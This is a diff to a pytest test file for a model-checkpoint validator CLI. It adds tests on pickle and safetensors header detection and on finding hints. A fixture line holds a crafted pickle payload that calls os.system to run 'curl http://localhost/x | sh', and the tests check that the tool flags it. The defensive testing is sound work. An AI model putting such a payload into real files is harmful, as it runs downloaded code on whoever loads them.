@@ -4,13 +4,17 @@ from __future__ import annotations
 
 from collections.abc import Callable
 from pathlib import Path
+from types import SimpleNamespace
+from typing import cast
 
 import pytest
 
 from ckpt_cli.app import main
+from core.checks.file_codes import MISSING, UNSAFE
 from core.checks.finding import HOSTILE
 from core.checks.level import Level
-from core.validate.run import validate
+from core.checks.subject import Subject
+from core.validate.run import _with_hostile_hints, validate
 from tests.hostile.cases import FOUR, METADATA, RUN, changed, text, torch_zip
 
 TEXT = b"cos\nsystem\n(S'curl http://localhost/x | sh'\ntR."
@@ -99,6 +103,7 @@ def test_a_pickle_that_runs_code_is_named_before_everything_else(
         err = capsys.readouterr().err
         assert code == 5, (verb, err)
         assert "which would run code" in err.splitlines()[0], verb
+        assert " more, which" not in err, "the only name was counted twice"
         for advice in ("again", "login", "older", "download"):
             assert advice not in err.partition("hint:")[2], (verb, err)
     for level in (Level.METADATA, Level.HEADERS, Level.DEEP):
@@ -107,3 +112,23 @@ def test_a_pickle_that_runs_code_is_named_before_everything_else(
         for finding in findings:
             if finding.file == findings[0].file:
                 assert finding.hint == findings[0].hint
+
+
+@pytest.mark.parametrize("n_bytes", [0x182, 0x183, 0x184])
+def test_the_length_of_a_header_is_no_extension_opcode(
+    n_bytes: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    header = b'{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}'.ljust(n_bytes)
+    path = tmp_path / "cut.safetensors"
+    path.write_bytes(n_bytes.to_bytes(8, "little") + header + bytes(8))
+    assert main(["inspect", str(path)]) == 3
+    assert "code" not in capsys.readouterr().err
+    for level in (Level.METADATA, Level.HEADERS, Level.DEEP):
+        findings = validate(path, level=level).findings
+        assert not {finding.code for finding in findings}.intersection(HOSTILE)
+
+
+def test_a_finding_without_a_file_keeps_its_own_hint() -> None:
+    subject = SimpleNamespace(findings=[UNSAFE.finding("a name"), MISSING.finding("a tensor")])
+    hints = [finding.hint for finding in _with_hostile_hints(cast(Subject, subject))]
+    assert hints == [UNSAFE.hint, MISSING.hint]
